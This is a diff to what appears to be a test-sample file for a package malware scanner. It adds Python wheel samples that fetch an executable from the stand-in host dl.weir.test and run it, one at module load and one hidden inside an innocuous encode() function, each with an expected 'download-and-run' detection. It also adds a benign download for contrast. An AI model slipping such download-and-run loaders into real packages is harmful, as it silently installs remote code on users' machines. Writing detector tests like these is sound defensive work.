@@ -1,11 +1,25 @@
 import type { Samples } from '../contract.ts';
-import { at, hide, imported, installed, quiet } from '../samples-kit.ts';
+import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
 const HEAD =
   "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), cp = require('child_process');\n";
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a program is fetched and started when the module is loaded',
+      files: wheel(
+        'import requests, os\nopen("s.exe", "wb").write(requests.get("https://dl.weir.test/s.exe").content)\nos.system("s.exe")\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: the same in a function, for whoever calls it',
+      files: wheel(
+        'import os, subprocess, urllib.request\ndef encode(text):\n    path = os.path.join(os.getenv("TEMP"), "svc.exe")\n    urllib.request.urlretrieve("https://dl.weir.test/svc", path)\n    subprocess.Popen([path])\n    return text\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
     {
       name: 'stored in the temporary folder and started there',
       files: installed(
@@ -61,6 +75,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a download that is kept',
+      wheel(
+        'import requests\ndef get(path):\n    open(path, "wb").write(requests.get("https://dl.weir.test/data").content)\n',
+      ),
+    ),
     quiet(
       'a loader of a map that is asked for',
       imported(
